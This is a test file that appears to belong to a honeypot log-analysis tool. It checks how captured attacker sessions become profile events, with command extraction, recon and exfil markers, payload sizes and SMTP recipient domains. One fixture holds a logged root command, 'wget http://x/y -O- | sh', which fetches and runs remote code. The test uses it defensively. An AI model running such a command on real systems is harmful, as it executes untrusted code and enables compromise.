// What a stored row contributes: skipped rows with their reason, command text from upstream's
// fields or a bash CMD line, phase markers, large payloads and SMTP recipient domains.
import { describe, expect, it } from 'vitest';
import { commandTextOf, toProfileEvent, type LogRow, type ProfileEvent } from './event-kinds.js';
import { domainOf, smtpDomainsOf } from './smtp.js';

const row = (over: Partial<LogRow> = {}): LogRow => ({
  id: 1,
  ms: 1_000,
  decky: 'decky-01',
  service: 'ssh',
  eventType: 'login',
  attackerIp: '198.51.100.7',
  fields: {},
  msg: null,
  ...over,
});

describe('only attacker activity becomes a profile event', () => {
  it.each([
    ['Unknown', row({ attackerIp: 'Unknown' }), 'no_attacker_ip'],
    ['a non-address', row({ attackerIp: ':' }), 'no_attacker_ip'],
    ['a NIL host', row({ decky: '-' }), 'nil_header'],
    ['the mutator marker', row({ service: 'mutator', eventType: 'decky_mutated' }), 'mutation'],
    ['our prober', row({ decky: 'decnet-prober', eventType: 'jarm_fingerprint' }), 'internal_host'],
  ])('skips %s', (_name, r, reason) => {
    expect(toProfileEvent(r)).toBe(reason);
  });

  it('keeps IPv6 attackers', () => {
    expect(typeof toProfileEvent(row({ attackerIp: '2001:db8::7' }))).toBe('object');
  });
});

describe('command text follows upstream: event types, field order, then the bash CMD line', () => {
  it('takes the first present field of command, query, input, line, sql, cmd', () => {
    expect(commandTextOf(row({ eventType: 'redis_command', fields: { cmd: 'CONFIG', args: 'GET *' } }))).toBe('CONFIG');
    expect(commandTextOf(row({ eventType: 'sql_query', fields: { sql: 'select 1', query: 'q' } }))).toBe('q');
    expect(commandTextOf(row({ eventType: 'login', fields: { command: 'ls' } }))).toBeNull();
  });

  it('reads a bash PROMPT_COMMAND line from MSG when no field carries it', () => {
    expect(commandTextOf(row({ eventType: 'command', msg: 'CMD uid=0 user=root src=1.2.3.4 pwd=/root cmd=wget http://x/y -O- | sh' }))).toBe(
      'wget http://x/y -O- | sh',
    );
  });

  it('cuts very long commands', () => {
    expect(commandTextOf(row({ eventType: 'command', fields: { command: 'a'.repeat(5000) } }))?.length).toBe(512);
  });
});

describe('phase markers, payload size and SMTP domains', () => {
  it('marks recon and exfil event types and payloads of 1 MiB or more', () => {
    const e = (over: Partial<LogRow>) => toProfileEvent(row(over)) as ProfileEvent;
    expect(e({ eventType: 'auth_failure' })).toMatchObject({ recon: true, exfil: false });
    expect(e({ eventType: 'download' })).toMatchObject({ recon: false, exfil: true });
    expect(e({ eventType: 'file_captured', fields: { size: '1048576' } }).largePayload).toBe(true);
    expect(e({ eventType: 'file_captured', fields: { size: '1048575', bytes: 'lots' } }).largePayload).toBe(false);
  });

  it('collects recipient domains, lower-cased, without reserved TLDs', () => {
    expect(smtpDomainsOf('rcpt_to', { value: '<Victim@Corp.COM>' })).toEqual(['corp.com']);
    expect(smtpDomainsOf('message_accepted', { rcpt_to: 'a@x.org, b@y.test,c@x.org' })).toEqual(['x.org']);
    expect(smtpDomainsOf('rcpt_denied', { value: 'root@localhost' })).toEqual([]);
    expect(smtpDomainsOf('mail_from', { value: 'a@x.org' })).toEqual([]);
    expect(domainOf('no-at-sign')).toBeNull();
    expect(domainOf('a@bad domain.com')).toBeNull();
  });
});
